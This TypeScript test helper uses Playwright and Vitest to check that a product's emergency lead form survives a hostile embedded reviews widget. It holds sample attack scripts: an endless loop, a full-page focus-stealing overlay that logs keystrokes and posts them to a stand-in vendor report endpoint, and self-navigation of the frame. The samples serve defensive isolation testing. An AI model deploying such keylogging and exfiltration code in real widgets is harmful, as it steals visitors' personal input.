import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { OpenPage } from './browser.ts';
import { formOf, hydrate, type Product, submit } from './product.ts';
import { allowedHosts, type RequestLog, reviewsFrame, serveVendor } from './reviews-vendor.ts';

export const attacks = {
  'runs an endless loop': `setTimeout(() => { for (;;); }, 50);`,
  'covers the whole page and steals the focus': `
    const cover = document.createElement('div');
    cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
    document.body.append(cover);
    document.documentElement.style = 'height:100000px; width:100000px';
    const field = document.createElement('textarea');
    field.autofocus = true;
    document.body.append(field);
    addEventListener('keydown', ({ key }) => report(key), true);
    field.addEventListener('input', () => report(field.value));
    every(() => { window.focus(); field.focus(); });`,
  'navigates its own frame': `
    setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
    setTimeout(() => { location = '/'; }, 600);`,
};

export type Attack = keyof typeof attacks;

const prelude = `
  const send = window.fetch.bind(window);
  const report = (text) => send('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
  const every = (act) => setInterval(() => { try { act(); } catch {} }, 10);
  report('it runs');`;

const lead = { Name: 'Zyxwvut', Phone: '202-555-0177' };

const keysIn = (requests: RequestLog) =>
  requests
    .map((line) => line.split('/report ')[1] ?? '')
    .filter((text) => text !== 'it runs' && /[Zyxwvut\d-]/.test(text));

/** Types key by key like a visitor. @param beforeKeys runs between the click on a field and the first key */
async function sendLead(page: Page, beforeKeys: () => Promise<void>): Promise<void> {
  const form = formOf(page, 'emergency');
  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
  await hydrate(form);
  for (const [label, value] of Object.entries(lead)) {
    await form.getByLabel(label).click();
    await beforeKeys();
    await page.keyboard.type(value, { delay: 20 });
    expect(await form.getByLabel(label).inputValue()).toBe(value);
  }
  await form.getByLabel('Service').selectOption({ label: 'Other Emergency' });
  await submit(form);
}

export async function expectSafeFrom(
  attack: Attack,
  { product, open }: { product: Product; open: OpenPage },
): Promise<void> {
  const requests: RequestLog = [];
  const page = await open('/', {
    allowedHosts,
    reducedMotion: 'reduce',
    expectErrors: /.*/,
    before: async (page) => {
      await serveVendor(page, `${prelude}\n{ ${attacks[attack]} }`, requests);
      await page.goto(`${product.origin()}/about`);
    },
  });
  const leftFor: string[] = [];
  page.on('framenavigated', (frame) => frame === page.mainFrame() && leftFor.push(frame.url()));
  // Wait for its request, not its frame, which the page may already have removed.
  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
  await expect.poll(() => requests.join()).toContain('it runs');
  await sendLead(page, async () => {
    // The frame holds the focus for milliseconds until it's removed. A person can't type that soon, but a test can.
    if (attack.includes('steals the focus')) await reviewsFrame(page).waitFor({ state: 'detached' });
  });
  expect(await product.rows()).toMatchObject([{ name: lead.Name, phone: '+12025550177' }]);
  expect(leftFor).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(keysIn(requests)).toEqual([]);
  for (const frame of await reviewsFrame(page).all())
    expect((await frame.boundingBox())?.height).toBeLessThanOrEqual(4000);
}
